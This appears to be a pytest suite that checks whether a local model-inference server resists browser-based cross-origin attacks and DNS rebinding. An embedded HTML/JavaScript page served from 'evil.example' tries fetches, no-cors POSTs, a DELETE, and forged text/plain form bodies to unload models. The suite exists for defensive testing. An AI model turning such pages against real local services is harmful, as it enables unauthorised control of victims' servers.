"""A real browser: pages of another site, and of a name that was made to point here, try to use the local server.

The server lets everybody do everything (--anonymous admin), so that nothing but the gate's look at web pages is in the way. The
same pages reach a server that lists their site (--cors-origin), which shows that the attempts are real ones.
"""
import http.server
import json
import re
import subprocess
import threading

import pytest

from support.repositories import request, write_model
from support.server import fetch

PAGE_S = 120
UNLOAD = "/v2/repository/models/{}/unload"

# Tries everything, with bodies that are JSON or empty (a form's line is "name=value"); then says what came of it in the page's
# body. A page learns nothing of an opaque answer; whether it did something is looked at from the server's side.
ATTACK = """<!doctype html><body>waiting<iframe name="sink"></iframe><script>
const target = TARGET, body = BODY, results = {};
async function attempt(name, path, options) {
  try {
    const response = await fetch(target + path, options);
    results[name] = response.type === "opaque" ? "opaque" : response.status + " " + (await response.text()).slice(0, 40);
  } catch (error) { results[name] = "failed"; }
}
function form(path, type, fields) {
  const form = document.createElement("form");
  form.action = target + path; form.method = "POST"; form.enctype = type; form.target = "sink";
  for (const name in fields) {
    const field = document.createElement("input");
    field.name = name; field.value = fields[name];
    form.append(field);
  }
  document.body.append(form); form.submit();
  return new Promise(done => { document.querySelector("iframe").onload = () => done(); setTimeout(done, 3000); });
}
(async () => {
  await attempt("read", "/v2/models", {});
  await attempt("infer as JSON", "/v2/models/iris/infer", {method: "POST", body, headers: {"Content-Type": "application/json"}});
  await attempt("infer as text", "/v2/models/iris/infer", {method: "POST", body, headers: {"Content-Type": "text/plain"}});
  await attempt("unload blindly", "/v2/repository/models/blind/unload", {method: "POST", mode: "no-cors"});
  await attempt("unload as text", "/v2/repository/models/text/unload", {method: "POST", mode: "no-cors", body: "{}"});
  await attempt("unload by beacon", "/v2/repository/models/beacon/unload", {method: "POST", mode: "no-cors", keepalive: true, body: "{}"});
  await attempt("delete", "/v2/models/iris", {method: "DELETE"});
  await form("/v2/repository/models/form/unload", "text/plain", {'{"a': '": 1}'});
  await form("/v2/repository/models/urlencoded/unload", "application/x-www-form-urlencoded", {});
  document.body.textContent = "RESULTS" + JSON.stringify(results) + "END";
})();
</script></body>"""
VICTIMS = ["blind", "text", "beacon", "form", "urlencoded"]


@pytest.fixture
def site():
    """Another site's web server: serves one page, set by the test, at every path."""
    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            page = self.server.page.encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(page)))
            self.end_headers()
            self.wfile.write(page)

        def log_message(self, *_):
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) as other:
        thread = threading.Thread(target=other.serve_forever)
        thread.start()
        yield other
        other.shutdown()
        thread.join()


@pytest.fixture
def folder(tmp_path):
    for name in ("iris", *VICTIMS):
        write_model(tmp_path / "models", name, "identity", "INT32")
    return tmp_path / "models"


def visit(url, profile):
    """What the page's document is in the end. All names lead to this machine, as an attacker's name server would have it."""
    done = subprocess.run(
        ["chromium", "--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", f"--user-data-dir={profile}",
         "--no-first-run", "--disable-background-networking", "--disable-component-update", "--disable-sync",
         "--host-resolver-rules=MAP * 127.0.0.1", "--virtual-time-budget=20000", f"--timeout={PAGE_S * 1000 // 2}", "--dump-dom", url],
        capture_output=True, text=True, timeout=PAGE_S, stdin=subprocess.DEVNULL)
    assert done.returncode == 0, done.stderr
    return done.stdout


def attack(site, server, profile):
    """Visits evil.example, whose page attacks the server; what the page found out."""
    body = json.dumps(request([7, 7], datatype="INT32"))
    site.page = ATTACK.replace("TARGET", json.dumps(server.url)).replace("BODY", json.dumps(body))
    document = visit(f"http://evil.example:{site.server_address[1]}/", profile)
    match = re.search(r"RESULTS(.*)END", document)
    assert match, document
    return json.loads(match.group(1))


def unloaded(server):
    return {name for name in VICTIMS if server.fetch(f"/v2/models/{name}/ready")[0] != 200}


def start(server, folder, *arguments):
    one = server(folder, "--anonymous", "admin", *arguments)
    for name in ("iris", *VICTIMS):
        one.wait_ready(name)
    return one


def test_pages_of_another_site_can_do_nothing(server, folder, site, tmp_path):
    one = start(server, folder)
    found = attack(site, one, tmp_path / "profile")
    assert set(found.values()) <= {"failed", "opaque"}, found
    assert unloaded(one) == set()
    assert one.infer("iris", request([1, 2], datatype="INT32"))[0] == 200


def test_the_same_pages_can_when_their_site_is_listed(server, folder, site, tmp_path):
    """Else the test above would prove nothing."""
    one = start(server, folder, "--cors-origin", f"http://evil.example:{site.server_address[1]}")
    found = attack(site, one, tmp_path / "profile")
    assert found["read"].startswith('200 {"models":') and found["infer as JSON"].startswith("200"), found
    assert unloaded(one) == set(VICTIMS)


def test_a_name_that_was_made_to_point_here_is_not_ours(server, folder, tmp_path):
    """DNS rebinding: evil.example's pages would be of the same origin as the server."""
    one = start(server, folder)
    document = visit(f"http://evil.example:{one.port}/v2", tmp_path / "profile")
    assert "does not answer for 'evil.example" in document
    allowed = start(server, folder, "--allowed-host", "evil.example")
    assert "extensions" in visit(f"http://evil.example:{allowed.port}/v2", tmp_path / "profile2")


def test_its_own_address_can_be_looked_at(server, folder, tmp_path):
    one = start(server, folder)
    assert fetch(one.url + "/v2")[0] == 200
    assert "extensions" in visit(f"http://localhost:{one.port}/v2", tmp_path / "profile")
